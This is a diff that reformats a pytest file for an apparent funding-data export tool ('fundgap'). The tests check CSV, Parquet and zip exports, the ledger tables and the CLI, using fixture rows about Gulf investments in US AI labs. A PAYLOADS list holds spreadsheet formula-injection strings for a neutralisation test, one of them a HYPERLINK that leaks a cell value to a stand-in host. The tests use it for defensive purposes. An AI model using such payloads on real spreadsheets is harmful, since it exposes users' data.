@@ -7,7 +7,7 @@ import csv
 import io
 import json
 import zipfile
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pandas as pd
@@ -15,71 +15,141 @@ import pyarrow.parquet as pq
 import pytest
 from frictionless import Package, validate
 
-from fundgap.export import snapshot as export
-from fundgap.data import schema
-from fundgap.data.build import BuiltDataset, build_dataset, dataset_version, read_curated, render_outputs, tidy, write_atomically
-from fundgap.cli import main
 from fundgap.analysis.filters import CountingRules, FilterOptions, Filters, View, parse_query
-from fundgap.data.load import Dataset, read_dataset
+from fundgap.cli import main
 from fundgap.common.safety import looks_like_formula, neutralise_formula
+from fundgap.data import schema
+from fundgap.data.build import (
+    BuiltDataset,
+    build_dataset,
+    dataset_version,
+    read_curated,
+    render_outputs,
+    tidy,
+    write_atomically,
+)
+from fundgap.data.load import Dataset, read_dataset
 from fundgap.data.validate import CuratedDataError
+from fundgap.export import snapshot as export
 from tests.conftest import FIXTURE_CURATED, read_rows
 
-CREATED = datetime(2026, 11, 23, 9, 30, tzinfo=timezone.utc)
+CREATED = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
 # The CSV columns before the ledger (EXPORT_FIELDS up to commit 32b88d1): scripts that read older snapshots by
 # position rely on them keeping their place at the start of the header.
 PRE_LEDGER_COLUMNS = (
-    "figure_id", "investor", "investor_type", "investor_country", "investor_region", "recipient", "recipient_country",
-    "recipient_region", "flow_kind", "amount_kind", "amount_usd", "amount_low_usd", "amount_high_usd", "amount_original",
-    "currency_original", "period_start", "period_end", "date_note", "status", "counted_in_totals", "source_title",
-    "source_publisher", "source_url", "source_date_published", "source_grade", "source_citation", "quote",
-    "quote_translation", "notes", "claim_id", "claim_relation", "part_of", "record_id",
+    "figure_id",
+    "investor",
+    "investor_type",
+    "investor_country",
+    "investor_region",
+    "recipient",
+    "recipient_country",
+    "recipient_region",
+    "flow_kind",
+    "amount_kind",
+    "amount_usd",
+    "amount_low_usd",
+    "amount_high_usd",
+    "amount_original",
+    "currency_original",
+    "period_start",
+    "period_end",
+    "date_note",
+    "status",
+    "counted_in_totals",
+    "source_title",
+    "source_publisher",
+    "source_url",
+    "source_date_published",
+    "source_grade",
+    "source_citation",
+    "quote",
+    "quote_translation",
+    "notes",
+    "claim_id",
+    "claim_relation",
+    "part_of",
+    "record_id",
 )
 LEDGER_COLUMNS = (
-    "record_type", "deal_id", "role", "investor_id", "recipient_id", "amount_text", "deal_amount_usd", "deal_amount_low_usd",
-    "deal_amount_high_usd", "deal_amount_kind", "valuation_usd", "valuation_note", "date_precision", "legacy_figure_id",
-    "caveat", "not_counted_reason", "permalink",
+    "record_type",
+    "deal_id",
+    "role",
+    "investor_id",
+    "recipient_id",
+    "amount_text",
+    "deal_amount_usd",
+    "deal_amount_low_usd",
+    "deal_amount_high_usd",
+    "deal_amount_kind",
+    "valuation_usd",
+    "valuation_note",
+    "date_precision",
+    "legacy_figure_id",
+    "caveat",
+    "not_counted_reason",
+    "permalink",
 )
-HEADER = ('"figure_id","investor","investor_type","investor_country","investor_region","recipient","recipient_country",'
-          '"recipient_region","flow_kind","amount_kind","amount_usd","amount_low_usd","amount_high_usd","amount_original",'
-          '"currency_original","period_start","period_end","date_note","status","counted_in_totals","source_title",'
-          '"source_publisher","source_url","source_date_published","source_grade","source_citation","quote",'
-          '"quote_translation","notes","claim_id","claim_relation","part_of","record_id",'
-          '"record_type","deal_id","role","investor_id","recipient_id","amount_text","deal_amount_usd","deal_amount_low_usd",'
-          '"deal_amount_high_usd","deal_amount_kind","valuation_usd","valuation_note","date_precision","legacy_figure_id",'
-          '"caveat","not_counted_reason","permalink"')
-AAWSAT = ('"Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI","Asharq Al-Awsat","https://english.aawsat.com/business/5095266",,'
-          '"wire_copy","Asharq Al-Awsat, ""Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI"", n.d."')
-AIPRESSA = ('"China\'s Leading AI Firms Shift to Closed Source Models Amid Funding Crisis","AIPressa","https://aipressa.com/?p=32007",'
-            '"2026-04","secondary","AIPressa Staff, ""China\'s Leading AI Firms Shift to Closed Source Models Amid Funding Crisis"", '
-            '2026-04, https://aipressa.com/?p=32007"')
+HEADER = (
+    '"figure_id","investor","investor_type","investor_country","investor_region","recipient","recipient_country",'
+    '"recipient_region","flow_kind","amount_kind","amount_usd","amount_low_usd","amount_high_usd","amount_original",'
+    '"currency_original","period_start","period_end","date_note","status","counted_in_totals","source_title",'
+    '"source_publisher","source_url","source_date_published","source_grade","source_citation","quote",'
+    '"quote_translation","notes","claim_id","claim_relation","part_of","record_id",'
+    '"record_type","deal_id","role","investor_id","recipient_id","amount_text","deal_amount_usd","deal_amount_low_usd",'
+    '"deal_amount_high_usd","deal_amount_kind","valuation_usd","valuation_note","date_precision","legacy_figure_id",'
+    '"caveat","not_counted_reason","permalink"'
+)
+AAWSAT = (
+    '"Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI","Asharq Al-Awsat","https://english.aawsat.com/business/5095266",,'
+    '"wire_copy","Asharq Al-Awsat, ""Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI"", n.d."'
+)
+AIPRESSA = (
+    '"China\'s Leading AI Firms Shift to Closed Source Models Amid Funding Crisis","AIPressa","https://aipressa.com/?p=32007",'
+    '"2026-04","secondary","AIPressa Staff, ""China\'s Leading AI Firms Shift to Closed Source Models Amid Funding Crisis"", '
+    '2026-04, https://aipressa.com/?p=32007"'
+)
 # Gulf investors -> United States: the three Gulf participations in US rounds, never the rounds themselves. Each
 # counts (its round is not in view); an undisclosed ticket has no amount but carries its round's total; a
 # participation without a source of its own (MGX) rests on its deal's source and record.
 GULF_US_CSV = (
     "\ufeff" + HEADER + "\r\n"
     '"kingdom_xai_b","Kingdom Holding Company","holding_company","Saudi Arabia","Gulf","xAI","United States","United States",'
-    '"equity_round_participation","exact",400000000,,,,,"2024-05",,,"VERIFIED",true,' + AAWSAT + ','
+    '"equity_round_participation","exact",400000000,,,,,"2024-05",,,"VERIFIED",true,' + AAWSAT + ","
     '"This transaction follows KHC\'s previous investment at the same value in xAI during its Series B funding round.",,,,,'
     '"xai_b","kingdom_xai_b",'
     '"participation","xai_b","participant","kingdom_holding","xai","$400M",6000000000,,,"exact",24000000000,"post-money",'
     '"month","kingdom_xai_b",,,"http://localhost:8501/?figure=kingdom_xai_b&version={VERSION}"\r\n'
     '"mgx_openai","MGX","state_investment_company","United Arab Emirates","Gulf","OpenAI","United States","United States",'
-    '"equity_round_participation","undisclosed",,,,,,"2024-10-02",,,"VERIFIED",true,' + AIPRESSA + ','
+    '"equity_round_participation","undisclosed",,,,,,"2024-10-02",,,"VERIFIED",true,' + AIPRESSA + ","
     ',,"Fixture: an undisclosed ticket of a co-owned vehicle.",,,'
     '"openai_2024","openai_2024",'
     '"participation","openai_2024","participant","mgx","openai","undisclosed",6600000000,,,"exact",157000000000,"valuation",'
     '"day",,"single secondary source",,"http://localhost:8501/?figure=mgx_openai&version={VERSION}"\r\n'
     '"qia_anthropic_f","Qatar Investment Authority","sovereign_fund","Qatar","Gulf","Anthropic","United States","United States",'
-    '"equity_round_participation","undisclosed",,,,,,"2025-09",,,"VERIFIED",true,' + AAWSAT + ','
+    '"equity_round_participation","undisclosed",,,,,,"2025-09",,,"VERIFIED",true,' + AAWSAT + ","
     '"QIA emerged as one of the latest backers of Anthropic",,"Fixture row: an undisclosed ticket.",,,'
     '"anthropic_f","qia_anthropic_f",'
     '"participation","anthropic_f","participant","qia","anthropic","undisclosed",13000000000,,,"exact",183000000000,"post-money",'
     '"month","qia_anthropic_f",,,"http://localhost:8501/?figure=qia_anthropic_f&version={VERSION}"\r\n'
 )
 GULF_US = View(Filters(investor_region=("Gulf",), recipient_region=("United States",)))
-PAYLOADS = ["=1+1", "+1", "-1+1", "@SUM(1,1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", 'a","=1+1', "  =1+1",
-            '=HYPERLINK("https://example.invalid/?leak="&A1,"click")']
+PAYLOADS = [
+    "=1+1",
+    "+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    'a","=1+1',
+    "  =1+1",
+    '=HYPERLINK("https://example.invalid/?leak="&A1,"click")',
+]
 
 
 @pytest.fixture(scope="module")
@@ -123,16 +193,21 @@ def build_unvalidated(curated: Path, out: Path) -> Dataset:
 
 
 def test_csv_text_is_exact_for_a_small_view(data):
-    expected = GULF_US_CSV.replace("{VERSION}", data.version)  # each row's permalink names the dataset version
+    expected = GULF_US_CSV.replace(
+        "{VERSION}", data.version
+    )  # each row's permalink names the dataset version
     assert export.to_csv(export.snapshot(data.figures, GULF_US, data.version)).decode("utf-8") == expected
 
 
 def test_the_pre_ledger_columns_keep_their_order_at_the_start_of_the_header(data):
     snap = export.snapshot(data.figures, GULF_US, data.version)
     header = next(csv.reader(io.StringIO(export.to_csv(snap).decode("utf-8-sig"))))
-    assert tuple(header[:len(PRE_LEDGER_COLUMNS)]) == PRE_LEDGER_COLUMNS
-    assert tuple(header[len(PRE_LEDGER_COLUMNS):]) == LEDGER_COLUMNS
-    assert tuple(pq.read_table(io.BytesIO(export.to_parquet(snap))).column_names) == PRE_LEDGER_COLUMNS + LEDGER_COLUMNS
+    assert tuple(header[: len(PRE_LEDGER_COLUMNS)]) == PRE_LEDGER_COLUMNS
+    assert tuple(header[len(PRE_LEDGER_COLUMNS) :]) == LEDGER_COLUMNS
+    assert (
+        tuple(pq.read_table(io.BytesIO(export.to_parquet(snap))).column_names)
+        == PRE_LEDGER_COLUMNS + LEDGER_COLUMNS
+    )
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -181,15 +256,34 @@ def test_snapshot_marks_what_the_counting_rules_count(data):
 def test_a_deal_in_view_is_counted_once_not_again_through_its_participations(data):
     counted = {True: [], False: []}
     for secondary in (False, True):
-        rows = export.snapshot(data.figures, View(rules=CountingRules(secondary=secondary)), data.version).rows
+        rows = export.snapshot(
+            data.figures, View(rules=CountingRules(secondary=secondary)), data.version
+        ).rows
         counted[secondary] = rows.loc[rows["counted_in_totals"], "figure_id"].tolist()
         assert rows["figure_id"].tolist() == [
-            "adia_minimax", "anthropic_f", "baichuan_a", "baichuan_a__alibaba", "kingdom_xai_b", "mgx_openai",
-            "minimax_cornerstones", "openai_2024", "qia_anthropic_f", "sb_tender", "sb_tender__svf2", "seed_gulf_china",
+            "adia_minimax",
+            "anthropic_f",
+            "baichuan_a",
+            "baichuan_a__alibaba",
+            "kingdom_xai_b",
+            "mgx_openai",
+            "minimax_cornerstones",
+            "openai_2024",
+            "qia_anthropic_f",
+            "sb_tender",
+            "sb_tender__svf2",
+            "seed_gulf_china",
             "xai_b",
         ]
     assert counted[False] == ["anthropic_f", "baichuan_a", "minimax_cornerstones", "openai_2024", "xai_b"]
-    assert counted[True] == ["anthropic_f", "baichuan_a", "minimax_cornerstones", "openai_2024", "sb_tender", "xai_b"]
+    assert counted[True] == [
+        "anthropic_f",
+        "baichuan_a",
+        "minimax_cornerstones",
+        "openai_2024",
+        "sb_tender",
+        "xai_b",
+    ]
 
 
 @pytest.mark.parametrize("typed", ["QIA", "qatar investment authority"])
@@ -199,38 +293,86 @@ def test_an_investor_view_has_one_row_per_participation_of_that_investor(data, t
     mine = data.participations[data.participations["investor_id"] == "qia"]["participation_id"].tolist()
     assert [row["figure_id"] for row in rows] == mine == ["qia_anthropic_f"]
     row = rows[0]
-    assert {column: row[column] for column in (
-        "record_type", "deal_id", "investor", "investor_id", "recipient", "recipient_id", "amount_kind", "amount_usd",
-        "amount_text", "deal_amount_usd", "deal_amount_kind", "role", "status", "source_title", "source_url",
-        "counted_in_totals", "part_of", "legacy_figure_id")} == {
-        "record_type": "participation", "deal_id": "anthropic_f", "investor": "Qatar Investment Authority",
-        "investor_id": "qia", "recipient": "Anthropic", "recipient_id": "anthropic", "amount_kind": "undisclosed",
-        "amount_usd": "", "amount_text": "undisclosed", "deal_amount_usd": "13000000000", "deal_amount_kind": "exact",
-        "role": "participant", "status": "VERIFIED",
+    assert {
+        column: row[column]
+        for column in (
+            "record_type",
+            "deal_id",
+            "investor",
+            "investor_id",
+            "recipient",
+            "recipient_id",
+            "amount_kind",
+            "amount_usd",
+            "amount_text",
+            "deal_amount_usd",
+            "deal_amount_kind",
+            "role",
+            "status",
+            "source_title",
+            "source_url",
+            "counted_in_totals",
+            "part_of",
+            "legacy_figure_id",
+        )
+    } == {
+        "record_type": "participation",
+        "deal_id": "anthropic_f",
+        "investor": "Qatar Investment Authority",
+        "investor_id": "qia",
+        "recipient": "Anthropic",
+        "recipient_id": "anthropic",
+        "amount_kind": "undisclosed",
+        "amount_usd": "",
+        "amount_text": "undisclosed",
+        "deal_amount_usd": "13000000000",
+        "deal_amount_kind": "exact",
+        "role": "participant",
+        "status": "VERIFIED",
         "source_title": "Saudi Arabia's Kingdom Holding Buys $400 Million Stake in xAI",
-        "source_url": "https://english.aawsat.com/business/5095266", "counted_in_totals": "true",
-        "part_of": "anthropic_f", "legacy_figure_id": "qia_anthropic_f",
+        "source_url": "https://english.aawsat.com/business/5095266",
+        "counted_in_totals": "true",
+        "part_of": "anthropic_f",
+        "legacy_figure_id": "qia_anthropic_f",
     }
-    assert export.to_csv(snap).decode("utf-8").splitlines()[1] == GULF_US_CSV.replace("{VERSION}", data.version).splitlines()[3]  # the same row
+    assert (
+        export.to_csv(snap).decode("utf-8").splitlines()[1]
+        == GULF_US_CSV.replace("{VERSION}", data.version).splitlines()[3]
+    )  # the same row
 
 
 def test_an_owner_view_includes_its_vehicles(data):
     snap = export.snapshot(data.figures, view_of(data, {"investor": ["mubadala"]}), data.version)
     rows = csv_rows(export.to_csv(snap))
-    assert [(row["figure_id"], row["investor_id"], row["investor"], row["deal_id"], row["record_type"], row["amount_text"])
-            for row in rows] == [("mgx_openai", "mgx", "MGX", "openai_2024", "participation", "undisclosed")]
+    assert [
+        (
+            row["figure_id"],
+            row["investor_id"],
+            row["investor"],
+            row["deal_id"],
+            row["record_type"],
+            row["amount_text"],
+        )
+        for row in rows
+    ] == [("mgx_openai", "mgx", "MGX", "openai_2024", "participation", "undisclosed")]
     readme = export.readme(snap, CREATED, "https://fundgap.example/")
-    assert "- Filters: Mubadala Investment Company, incl. MGX (co-owned) → all recipients, all years" in readme
+    assert (
+        "- Filters: Mubadala Investment Company, incl. MGX (co-owned) → all recipients, all years" in readme
+    )
     assert "<https://fundgap.example/?investor=mubadala>" in readme
 
 
 def test_zip_holds_csv_datapackage_and_readme_and_validates(data, tmp_path):
-    blob = export.to_zip(export.snapshot(data.figures, GULF_US, data.version), CREATED, "https://fundgap.example/")
+    blob = export.to_zip(
+        export.snapshot(data.figures, GULF_US, data.version), CREATED, "https://fundgap.example/"
+    )
     with zipfile.ZipFile(io.BytesIO(blob)) as archive:
         assert archive.namelist() == ["data.csv", "datapackage.json", "README.md"]
         archive.extractall(tmp_path)
         readme = archive.read("README.md").decode()
-    assert (tmp_path / "data.csv").read_bytes().decode("utf-8") == GULF_US_CSV.replace("{VERSION}", data.version)
+    assert (tmp_path / "data.csv").read_bytes().decode("utf-8") == GULF_US_CSV.replace(
+        "{VERSION}", data.version
+    )
     report = validate(str(tmp_path / "datapackage.json"))
     assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
     package = Package(str(tmp_path / "datapackage.json"))
@@ -245,9 +387,13 @@ def test_zip_holds_csv_datapackage_and_readme_and_validates(data, tmp_path):
     assert f"- Dataset version: {data.version}" in readme
     assert "<https://fundgap.example/?investor_region=Gulf&recipient_region=United+States>" in readme
     assert "- Downloaded: 2026-11-23 09:30 UTC" in readme
-    assert "- Asharq Al-Awsat, \"Saudi Arabia's Kingdom Holding Buys $400 Million Stake in xAI\", n.d." in readme
-    assert ("- AIPressa Staff, \"China's Leading AI Firms Shift to Closed Source Models Amid Funding Crisis\", 2026-04, "
-            "https://aipressa.com/?p=32007") in readme
+    assert (
+        '- Asharq Al-Awsat, "Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI", n.d.' in readme
+    )
+    assert (
+        '- AIPressa Staff, "China\'s Leading AI Firms Shift to Closed Source Models Amid Funding Crisis", 2026-04, '
+        "https://aipressa.com/?p=32007"
+    ) in readme
 
 
 LEDGER_FILES = ["entities.csv", "deals.csv", "participations.csv"]
@@ -281,36 +427,63 @@ def test_zip_with_the_ledger_holds_its_tables_validates_and_every_key_resolves(d
         assert archive.namelist() == ["data.csv", "datapackage.json", "README.md", *LEDGER_FILES]
         archive.extractall(tmp_path)
         tables = {name: csv_rows(archive.read(name)) for name in ["data.csv", *LEDGER_FILES]}
-    assert (tmp_path / "data.csv").read_bytes().decode("utf-8") == GULF_US_CSV.replace("{VERSION}", data.version)  # the ledger adds files, not columns
+    assert (tmp_path / "data.csv").read_bytes().decode("utf-8") == GULF_US_CSV.replace(
+        "{VERSION}", data.version
+    )  # the ledger adds files, not columns
     report = validate(str(tmp_path / "datapackage.json"))
     assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
     # The rounds the Gulf participations belong to, every participation in them, and every entity named, owners
     # included (MGX's owners Mubadala and G42).
     assert [row["deal_id"] for row in tables["deals.csv"]] == ["anthropic_f", "openai_2024", "xai_b"]
     assert [row["participation_id"] for row in tables["participations.csv"]] == [
-        "kingdom_xai_b", "mgx_openai", "qia_anthropic_f"]
+        "kingdom_xai_b",
+        "mgx_openai",
+        "qia_anthropic_f",
+    ]
     assert [row["entity_id"] for row in tables["entities.csv"]] == [
-        "anthropic", "g42", "kingdom_holding", "mgx", "mubadala", "openai", "qia", "xai"]
+        "anthropic",
+        "g42",
+        "kingdom_holding",
+        "mgx",
+        "mubadala",
+        "openai",
+        "qia",
+        "xai",
+    ]
     check_foreign_keys(tables)
     assert {row["deal_id"] for row in tables["data.csv"]} == {row["deal_id"] for row in tables["deals.csv"]}
 
     described = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
-    keys = {r["name"]: (r["path"], r["schema"]["primaryKey"], r["schema"].get("foreignKeys"))
-            for r in described["resources"]}
+    keys = {
+        r["name"]: (r["path"], r["schema"]["primaryKey"], r["schema"].get("foreignKeys"))
+        for r in described["resources"]
+    }
     assert keys == {
-        "figures": ("data.csv", ["figure_id"], [
-            {"fields": "deal_id", "reference": {"resource": "deals", "fields": "deal_id"}},
-            {"fields": "investor_id", "reference": {"resource": "entities", "fields": "entity_id"}},
-            {"fields": "recipient_id", "reference": {"resource": "entities", "fields": "entity_id"}},
-        ]),
+        "figures": (
+            "data.csv",
+            ["figure_id"],
+            [
+                {"fields": "deal_id", "reference": {"resource": "deals", "fields": "deal_id"}},
+                {"fields": "investor_id", "reference": {"resource": "entities", "fields": "entity_id"}},
+                {"fields": "recipient_id", "reference": {"resource": "entities", "fields": "entity_id"}},
+            ],
+        ),
         "entities": ("entities.csv", ["entity_id"], []),
-        "deals": ("deals.csv", ["deal_id"], [
-            {"fields": "recipient_id", "reference": {"resource": "entities", "fields": "entity_id"}},
-        ]),
-        "participations": ("participations.csv", ["participation_id"], [
-            {"fields": "deal_id", "reference": {"resource": "deals", "fields": "deal_id"}},
-            {"fields": "investor_id", "reference": {"resource": "entities", "fields": "entity_id"}},
-        ]),
+        "deals": (
+            "deals.csv",
+            ["deal_id"],
+            [
+                {"fields": "recipient_id", "reference": {"resource": "entities", "fields": "entity_id"}},
+            ],
+        ),
+        "participations": (
+            "participations.csv",
+            ["participation_id"],
+            [
+                {"fields": "deal_id", "reference": {"resource": "deals", "fields": "deal_id"}},
+                {"fields": "investor_id", "reference": {"resource": "entities", "fields": "entity_id"}},
+            ],
+        ),
     }
 
 
@@ -361,14 +534,16 @@ def test_a_formula_in_an_entity_name_is_neutralised_in_the_zip(curated_copy, tmp
     else:
         assert qia[0][header.index("name")] == payload
     # The name reaches data.csv too, as the investor of QIA's participation.
-    assert [row["investor"] for row in figures if row["investor_id"] == "qia"] == [neutralise_formula(payload)]
+    assert [row["investor"] for row in figures if row["investor_id"] == "qia"] == [
+        neutralise_formula(payload)
+    ]
 
 
 @pytest.mark.parametrize("with_ledger", [False, True])
 def test_zip_differs_only_by_creation_time(data, with_ledger):
     snap = export.snapshot(data.figures, GULF_US, data.version, ledger_of(data) if with_ledger else None)
     assert export.to_zip(snap, CREATED) == export.to_zip(snap, CREATED)
-    assert export.to_zip(snap, CREATED) != export.to_zip(snap, datetime(2026, 11, 24, tzinfo=timezone.utc))
+    assert export.to_zip(snap, CREATED) != export.to_zip(snap, datetime(2026, 11, 24, tzinfo=UTC))
 
 
 def test_parquet_has_typed_columns_and_carries_the_version(data):
@@ -389,10 +564,13 @@ def test_file_names_carry_date_and_version():
     assert export.file_name("csv", "abc123", "2026-11-23") == "fundgap-2026-11-23-abc123.csv"
 
 
-@pytest.mark.parametrize("args, query", [
-    (["--investor-region", "Gulf", "--recipient-region", "United States"], None),
-    (["--investor", "kingdom holding", "--investor", "qia"], {"investor": ["kingdom holding", "qia"]}),
-])
+@pytest.mark.parametrize(
+    "args, query",
+    [
+        (["--investor-region", "Gulf", "--recipient-region", "United States"], None),
+        (["--investor", "kingdom holding", "--investor", "qia"], {"investor": ["kingdom holding", "qia"]}),
+    ],
+)
 def test_cli_export_writes_exactly_the_dashboard_csv(fixture_data_dir, data, tmp_path, args, query):
     target = tmp_path / "out.csv"
     code = main(["export", "--format", "csv", "-o", str(target), "--data", str(fixture_data_dir), *args])
@@ -402,15 +580,26 @@ def test_cli_export_writes_exactly_the_dashboard_csv(fixture_data_dir, data, tmp
     if query is None:
         assert target.read_bytes().decode("utf-8") == GULF_US_CSV.replace("{VERSION}", data.version)
     else:
-        assert [row["figure_id"] for row in csv_rows(target.read_bytes())] == ["kingdom_xai_b", "qia_anthropic_f"]
+        assert [row["figure_id"] for row in csv_rows(target.read_bytes())] == [
+            "kingdom_xai_b",
+            "qia_anthropic_f",
+        ]
 
 
 def test_cli_zip_carries_the_ledger_tables(fixture_data_dir, tmp_path):
     target = tmp_path / "out.zip"
-    code = main(["export", "--format", "zip", "-o", str(target), "--data", str(fixture_data_dir), "--investor", "QIA"])
+    code = main(
+        ["export", "--format", "zip", "-o", str(target), "--data", str(fixture_data_dir), "--investor", "QIA"]
+    )
     assert code == 0
     with zipfile.ZipFile(target) as archive:
-        assert archive.namelist() == ["data.csv", "datapackage.json", "README.md", *LEDGER_FILES, "releases.csv"]
+        assert archive.namelist() == [
+            "data.csv",
+            "datapackage.json",
+            "README.md",
+            *LEDGER_FILES,
+            "releases.csv",
+        ]
         tables = {name: csv_rows(archive.read(name)) for name in ["data.csv", *LEDGER_FILES, "releases.csv"]}
     assert tables["releases.csv"] == []  # the fixture's one release is OpenAI's, not Anthropic's
     assert [row["figure_id"] for row in tables["data.csv"]] == ["qia_anthropic_f"]
@@ -421,14 +610,31 @@ def test_cli_zip_carries_the_ledger_tables(fixture_data_dir, tmp_path):
 
 def test_cli_rejects_unknown_values_listing_the_valid_ones(fixture_data_dir, tmp_path, capsys):
     target = tmp_path / "out.csv"
-    assert main(["export", "--format", "csv", "-o", str(target), "--data", str(fixture_data_dir), "--investor-region", "Mars"]) == 2
+    assert (
+        main(
+            [
+                "export",
+                "--format",
+                "csv",
+                "-o",
+                str(target),
+                "--data",
+                str(fixture_data_dir),
+                "--investor-region",
+                "Mars",
+            ]
+        )
+        == 2
+    )
     err = capsys.readouterr().err
     assert "export failed: investor_region='Mars' (no such value in the data)" in err
     assert "valid --investor-region: China, Gulf, Japan" in err
     assert not target.exists()
 
 
-def test_a_failed_export_leaves_no_partial_file_and_keeps_the_old_one(fixture_data_dir, tmp_path, monkeypatch):
+def test_a_failed_export_leaves_no_partial_file_and_keeps_the_old_one(
+    fixture_data_dir, tmp_path, monkeypatch
+):
     target = tmp_path / "out.parquet"
     target.write_bytes(b"previous export")
 
@@ -469,8 +675,12 @@ def test_an_exception_during_the_write_leaves_no_partial_file(fixture_data_dir, 
 
 
 def test_datapackage_describes_every_column():
-    described = {f["name"] for f in export.datapackage(
-        export.Snapshot(pd.DataFrame(columns=export.COLUMNS), View(), "v"), CREATED, "https://x.example/")["resources"][0]["schema"]["fields"]}
+    described = {
+        f["name"]
+        for f in export.datapackage(
+            export.Snapshot(pd.DataFrame(columns=export.COLUMNS), View(), "v"), CREATED, "https://x.example/"
+        )["resources"][0]["schema"]["fields"]
+    }
     assert described == set(export.COLUMNS)
     assert json.dumps(export.EXPORT_FIELDS)  # plain data, serialisable
 
@@ -485,22 +695,74 @@ def test_each_csv_row_says_why_the_totals_leave_it_out(data):
     left_out = rows[~rows["counted_in_totals"]]
     assert left_out["not_counted_reason"].notna().all()
     assert set(left_out["not_counted_reason"]) <= {
-        "context figure, never added to deal totals", "rejected report, never counted",
-        "unverified (the unverified-figures switch is off)", "secondary purchases switched off",
-        "unpaid commitments switched off", "infrastructure commitments switched off",
-        "IPO cornerstone subscriptions switched off", "counted through its paid tranches",
-        "inside a counted deal: the whole deal is counted once"}
+        "context figure, never added to deal totals",
+        "rejected report, never counted",
+        "unverified (the unverified-figures switch is off)",
+        "secondary purchases switched off",
+        "unpaid commitments switched off",
+        "infrastructure commitments switched off",
+        "IPO cornerstone subscriptions switched off",
+        "counted through its paid tranches",
+        "inside a counted deal: the whole deal is counted once",
+    }
 
 
 def test_the_zip_and_the_cli_carry_the_releases_of_the_labs_in_view(fixture_data_dir, tmp_path):
     target = tmp_path / "openai.zip"
-    assert main(["export", "--format", "zip", "-o", str(target), "--data", str(fixture_data_dir), "--recipient", "openai"]) == 0
+    assert (
+        main(
+            [
+                "export",
+                "--format",
+                "zip",
+                "-o",
+                str(target),
+                "--data",
+                str(fixture_data_dir),
+                "--recipient",
+                "openai",
+            ]
+        )
+        == 0
+    )
     with zipfile.ZipFile(target) as archive:
         releases = csv_rows(archive.read("releases.csv"))
         package = json.loads(archive.read("datapackage.json"))
-    assert [(r["release_id"], r["lab_id"], r["openness"]) for r in releases] == [("openai_fixture_model", "openai", "api_only")]
+    assert [(r["release_id"], r["lab_id"], r["openness"]) for r in releases] == [
+        ("openai_fixture_model", "openai", "api_only")
+    ]
     assert "releases" in [resource["name"] for resource in package["resources"]]
     csv_target = tmp_path / "releases.csv"
-    assert main(["export", "--format", "csv", "--table", "releases", "-o", str(csv_target), "--data", str(fixture_data_dir)]) == 0
+    assert (
+        main(
+            [
+                "export",
+                "--format",
+                "csv",
+                "--table",
+                "releases",
+                "-o",
+                str(csv_target),
+                "--data",
+                str(fixture_data_dir),
+            ]
+        )
+        == 0
+    )
     assert [r["model"] for r in csv_rows(csv_target.read_bytes())] == ["Fixture Model"]
-    assert main(["export", "--format", "zip", "--table", "releases", "-o", str(tmp_path / "x.zip"), "--data", str(fixture_data_dir)]) == 2
+    assert (
+        main(
+            [
+                "export",
+                "--format",
+                "zip",
+                "--table",
+                "releases",
+                "-o",
+                str(tmp_path / "x.zip"),
+                "--data",
+                str(fixture_data_dir),
+            ]
+        )
+        == 2
+    )
